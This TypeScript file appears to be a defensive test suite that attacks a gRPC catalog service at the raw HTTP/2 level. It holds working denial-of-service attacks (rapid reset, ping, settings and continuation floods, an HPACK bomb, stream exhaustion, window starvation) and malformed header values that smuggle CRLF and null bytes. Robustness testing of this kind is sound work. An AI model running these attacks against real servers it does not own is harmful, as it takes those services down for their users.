import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { CatalogService } from '../../../gen/catalogd/v1/catalog_service_pb.ts';
import { encoded, pathOf } from '../support/grpc.ts';
import { type Attack, randomBytes, type Target, withSocket, write } from './attack.ts';
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  type Fields,
  frame,
  grpcFields,
  headerBlock,
  indexedLiteral,
  PREFACE,
  references,
  settings,
  TYPE,
  uint32,
} from './frames.ts';

const GET = pathOf(CatalogService.method.getManifest);
const LIST = pathOf(CatalogService.method.listManifests);

/** Numbers of streams that a client may open. */
const stream = (i: number) => 2 * i + 1;

/** A connection that begins as it should. */
function session(
  target: Target,
  use: (socket: Socket) => Promise<void>,
  first: Buffer = settings(),
): Promise<void> {
  return withSocket(target, async (socket) => {
    await write(socket, Buffer.concat([PREFACE, first]));
    // Now and then the acknowledgement comes first, and limits hold from the beginning.
    if (target.random.chance(0.5)) {
      await sleep(20);
      await write(socket, frame(TYPE.settings, ACK, 0));
    }
    await use(socket);
  });
}

function call(i: number, path = GET, more: Fields = []): Buffer {
  const body = encoded(CatalogService.method.getManifest, { name: 'victim' });
  return Buffer.concat([
    frame(TYPE.headers, END_HEADERS, stream(i), headerBlock(grpcFields(path, more))),
    frame(TYPE.data, END_STREAM, stream(i), body),
  ]);
}

/** What a client can do to HTTP/2 itself. Floods are of bounded numbers. */
export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  'random frames': (target) =>
    session(target, async (socket) => {
      const { random } = target;
      for (let n = random.below(200); n > 0; n--) {
        const payload = randomBytes(random, random.below(64));
        const length = random.chance(0.1) ? random.below(2 ** 24) : payload.length;
        const id = random.chance(0.7) ? random.below(20) : random.below(2 ** 31);
        await write(socket, frame(random.below(12), random.below(256), id, payload, length));
      }
    }),
  'rapid reset': (target) =>
    session(target, async (socket) => {
      for (let i = 0; i < 500; i++) {
        const reset = frame(TYPE.rstStream, 0, stream(i), uint32(8));
        await write(socket, Buffer.concat([call(i), reset]));
      }
    }),
  'ping flood': (target) =>
    session(target, async (socket) => {
      const pings = Buffer.concat(Array(100).fill(frame(TYPE.ping, 0, 0, Buffer.alloc(8))));
      for (let i = 0; i < 20; i++) await write(socket, pings);
    }),
  'settings flood': (target) =>
    session(target, async (socket) => {
      const { random } = target;
      for (let i = 0; i < 500; i++) {
        await write(socket, settings([[1 + random.below(6), random.below(2 ** 31)]]));
      }
    }),
  'continuation flood': (target) =>
    session(target, async (socket) => {
      await write(socket, frame(TYPE.headers, 0, 1, headerBlock(grpcFields(GET))));
      const more = frame(TYPE.continuation, 0, 1, headerBlock([['x-more', 'a'.repeat(8_000)]]));
      for (let i = 0; i < 200; i++) await write(socket, more);
    }),
  'empty frames': (target) =>
    session(target, async (socket) => {
      await write(socket, frame(TYPE.headers, END_HEADERS, 1, headerBlock(grpcFields(GET))));
      const empty = Buffer.concat(Array(100).fill(frame(TYPE.data, 0, 1)));
      for (let i = 0; i < 20; i++) await write(socket, empty);
    }),
  'too many streams': (target) =>
    session(target, async (socket) => {
      const block = headerBlock(grpcFields(target.random.pick([GET, LIST, '/nothing/here'])));
      for (let i = 0; i < 1_000; i++) {
        await write(socket, frame(TYPE.headers, END_HEADERS, stream(i), block));
      }
    }),
  'HPACK bomb': (target) =>
    session(target, async (socket) => {
      const bomb = Buffer.concat([
        headerBlock(grpcFields(GET)),
        indexedLiteral('x-bomb', 'b'.repeat(4_000)),
        references(8_000),
      ]);
      for (let i = 0; i < 5; i++) {
        await write(socket, frame(TYPE.headers, END_HEADERS | END_STREAM, stream(i), bomb));
      }
    }),
  'huge headers': (target) =>
    session(target, async (socket) => {
      const { random } = target;
      const many: Fields = Array.from({ length: 1 + random.below(500) }, (_, i) => [
        `x-${i}`,
        'v'.repeat(random.below(30)),
      ]);
      const block = headerBlock(
        grpcFields(GET, random.chance(0.5) ? many : [['x', 'y'.repeat(15_000)]]),
      );
      for (let i = 0; i < 20; i++) {
        await write(socket, frame(TYPE.headers, END_HEADERS | END_STREAM, stream(i), block));
      }
    }),
  'wrong headers': (target) =>
    session(target, async (socket) => {
      const { random } = target;
      const wrong: readonly Fields[] = [
        [[':method', 'POST']],
        [[':path', GET]],
        grpcFields(GET, [['Upper-Case', 'x']]),
        grpcFields(GET, [['connection', 'keep-alive']]),
        grpcFields(GET, [['transfer-encoding', 'chunked']]),
        grpcFields(GET, [['content-length', '999999']]),
        grpcFields(GET, [[':path', '/twice']]),
        grpcFields(GET, [['x-bad', 'a\r\nb: c\0']]),
        grpcFields('http://[::1'),
        grpcFields(`${GET}?a=\xff\xfe`),
        grpcFields(GET, [['grpc-timeout', random.pick(['', '1', 'H', '99999999999S', '-1m'])]]),
        grpcFields(GET, [['grpc-encoding', 'made-up']]),
      ];
      for (const [i, fields] of wrong.entries()) {
        if (random.chance(0.5)) continue;
        const flags = END_HEADERS | END_STREAM;
        await write(socket, frame(TYPE.headers, flags, stream(i), headerBlock(fields)));
      }
    }),
  'answers that nobody takes': (target) =>
    session(
      target,
      async (socket) => {
        const block = headerBlock(grpcFields(LIST));
        const body = encoded(CatalogService.method.listManifests, { pageSize: 1_000 });
        for (let i = 0; i < 100; i++) {
          await write(socket, frame(TYPE.headers, END_HEADERS, stream(i), block));
          await write(socket, frame(TYPE.data, END_STREAM, stream(i), body));
        }
      },
      // SETTINGS_INITIAL_WINDOW_SIZE: no answer may be sent.
      settings([[4, 0]]),
    ),
  'windows out of range': (target) =>
    session(target, async (socket) => {
      await write(socket, frame(TYPE.headers, END_HEADERS, 1, headerBlock(grpcFields(GET))));
      for (const id of [0, 1, 7]) {
        for (const size of [0, 2 ** 31 - 1, 2 ** 31 - 1]) {
          await write(socket, frame(TYPE.windowUpdate, 0, id, uint32(size)));
        }
      }
    }),
  'goodbye, then more calls': (target) =>
    session(target, async (socket) => {
      const goodbye = frame(TYPE.goaway, 0, 0, Buffer.concat([uint32(0), uint32(0)]));
      await write(socket, Buffer.concat([call(0), goodbye, call(1), call(2)]));
    }),
  'priorities in a circle': (target) =>
    session(target, async (socket) => {
      for (let i = 0; i < 200; i++) {
        const on = Buffer.concat([uint32(stream(target.random.below(50))), Buffer.from([255])]);
        await write(socket, frame(TYPE.priority, 0, stream(target.random.below(50)), on));
      }
      await write(socket, call(60));
    }),
};
